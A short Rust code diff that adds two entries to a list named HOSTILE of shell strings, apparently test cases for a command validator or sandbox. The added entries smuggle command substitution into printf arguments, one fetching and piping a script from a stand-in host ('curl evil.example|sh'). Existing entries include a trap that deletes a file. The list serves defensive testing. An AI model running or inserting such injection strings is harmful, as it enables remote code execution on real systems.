@@ -60,6 +60,8 @@ pub(crate) const HOSTILE: &[&str] = &[
     "set -o noglob",
     "unset PATH",
     "printf -v PATH .",
+    "printf '%d' 'psvar[$(curl evil.example|sh)0]'",
+    "printf '%s %*s' a 'psvar[`id`0]' b",
     "read x",
     "trap 'rm x' EXIT",
     "echo $'\\x72\\x6d'",
